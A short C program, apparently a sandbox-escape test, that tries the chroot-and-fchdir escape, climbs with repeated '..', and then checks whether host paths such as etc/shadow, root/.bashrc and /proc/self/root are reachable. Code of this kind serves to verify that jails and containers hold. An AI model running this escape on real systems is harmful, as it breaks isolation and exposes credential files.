// Out of the root by an open folder and fchdir; by `..`; by /proc/self/root.
#include "attack.h"
int main(int argc, char** argv) {
  const int root = open("/", O_RDONLY | O_DIRECTORY);
  if (argc > 1 && is(argv[1], "chroot")) {
    mkdir("jail", 0777);
    if (chroot("jail") == 0 && fchdir(root) == 0)
      for (int i = 0; i < 64; i++)
        if (chdir("..") != 0) break;
    if (chroot(".") != 0) return finish();
  } else {
    if (fchdir(root) != 0) return 9;
    for (int i = 0; i < 64; i++)
      if (chdir("..") != 0) break;
  }
  static const char* only_host[] = {"root/.bashrc", "var/log", "var/lib/dpkg/status", "boot", "etc/shadow", "home", "srv", "../root", "proc/self/root/root/.bashrc"};
  for (size_t i = 0; i < sizeof only_host / sizeof *only_host; i++) attempt(only_host[i], access(only_host[i], F_OK) == 0);
  return finish();
}
